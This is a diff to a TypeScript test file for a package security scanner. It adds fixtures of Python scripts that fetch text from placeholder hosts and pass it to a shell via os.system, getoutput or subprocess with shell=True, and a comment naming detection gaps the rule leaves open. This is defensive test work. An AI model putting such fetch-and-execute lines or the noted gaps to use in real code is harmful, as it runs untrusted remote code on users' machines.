@@ -11,6 +11,10 @@
  * start, a line that is a path does not (CallFact.written, rule key unlessWritten).
  * (b) Python `os.makedirs(d); os.chmod(d, 0o700)` in a script that also downloads is no download
  * made executable (rule key unlessMadeDir).
+ * (h) Python: downloaded text handed to a shell (os.system, os.popen, getoutput, subprocess with
+ * shell=True) passed whatever named the URL; rules py-shell-downloaded-text and
+ * py-subprocess-shell-downloaded. Left open: the argv form `["bash", "-c", body]`, and a line of
+ * the body taken in a `for` loop over `splitlines()` (the loop variable loses the source).
  * Every host is reserved (example.*, *.invalid, documentation IPs); scanned without a skill.json.
  */
 import { scanFiles } from '../index.js';
@@ -465,3 +469,64 @@ subprocess.run([p])
 
 expectVerdicts('b. chmod of a folder the script makes passes', chmodDirs, scanMulti, 'pass');
 expectVerdicts('b. a download made executable fails', chmodDownloads, scanMulti, 'fail');
+
+// ---- h. Python: downloaded text handed to a shell (a class attribute of another module as URL) ---
+
+const shellDownloaded: Multi[] = [
+  [
+    'h1 URL a class attribute of another module, body run with shell=True',
+    {
+      'scripts/config.py': 'class Config:\n    URL = "https://x.example/p.sh"\n',
+      'scripts/run.py': `import subprocess, requests
+from config import Config
+body = requests.get(Config.URL).text
+subprocess.run(body, shell=True)
+`,
+    },
+  ],
+  [
+    'h2 os.system of a response',
+    {
+      'scripts/run.py': `import os, requests
+os.system(requests.get("https://x.example/p.sh", timeout=5).text)
+`,
+    },
+  ],
+  [
+    'h3 getoutput of a decoded urlopen body',
+    {
+      'scripts/run.py': `import subprocess, urllib.request
+with urllib.request.urlopen("https://x.example/cmd") as r:
+    cmd = r.read().decode()
+print(subprocess.getoutput(cmd))
+`,
+    },
+  ],
+];
+
+const shellFixed: Multi[] = [
+  [
+    'hb1 a fixed shell command beside a download',
+    {
+      'scripts/run.py': `import subprocess, requests
+data = requests.get("https://api.example.com/v1/items").json()
+subprocess.run("git status --short", shell=True, check=True)
+print(len(data))
+`,
+    },
+  ],
+  [
+    'hb2 a downloaded value as an argument of a fixed program, no shell',
+    {
+      'scripts/run.py': `import subprocess, requests
+version = requests.get("https://api.example.com/latest").json()["version"]
+subprocess.run(["pip", "install", f"example-tool=={version}"], check=True)
+`,
+    },
+  ],
+];
+
+expectVerdicts('h. downloaded text run by a shell fails', shellDownloaded, scanMulti, 'fail');
+expectVerdicts('h. fixed commands beside downloads do not fail', shellFixed, scanMulti, {
+  not: 'fail',
+});
